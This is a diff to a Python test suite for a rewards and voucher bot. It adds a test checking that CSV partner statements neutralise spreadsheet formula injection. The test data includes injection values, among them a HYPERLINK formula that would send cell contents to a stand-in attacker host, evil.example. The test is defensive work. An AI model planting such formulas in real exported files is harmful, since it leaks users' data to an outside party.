@@ -1,6 +1,8 @@
 """Rewards: the catalog, redeeming under contention, vouchers at the desk, expiry and refunds."""
 
 import asyncio
+import csv
+import io
 import re
 from datetime import timedelta
 
@@ -281,3 +283,34 @@ async def test_partner_statement(harness, shop):
     await other.press(f"st:{hotel.id}:2026:11", forge=True)
     assert other.alerts()[-1] == "Sorry, you are not allowed to do that."
     assert received(harness, other.id)[-1] != desk.texts()[-2]
+
+
+async def test_statement_cells_never_run_as_formulas(harness, shop):
+    hotel, _ = shop
+    admin = await harness.services.people.viewer(ADMIN_ID, "en")
+    reward = await harness.services.rewards.add(
+        admin,
+        {**REWARD, "name_en": "+SUM(1,2)", "stock": 9, "station_id": hotel.id},
+    )
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3", "Wang Li"]
+    desk = await partner_of(harness, hotel)
+    for i, name in enumerate(names):
+        talent = await seed_talent(harness, 501 + i)
+        await harness.services.people.update_profile(talent.id, {"name": name})
+        await give_points(harness, talent, 50)
+        _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
+        await desk.send(f"/verify {voucher.code}")
+        await desk.tap("☑️ Mark used")
+    await desk.send("/statement")
+    await desk.tap("Spa hotel · 2026-11")
+    document = harness.api.bot_messages(desk.id)[-1]["document"]
+    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content)))
+    assert [row[4] for row in rows[1:]] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "'@SUM(A1:A9)",
+        "'-2+3",
+        "Wang Li",
+    ]
+    assert {row[3] for row in rows[1:]} == {"'+SUM(1,2)"}
+    assert {row[5] for row in rows[1:]} == {"50"}
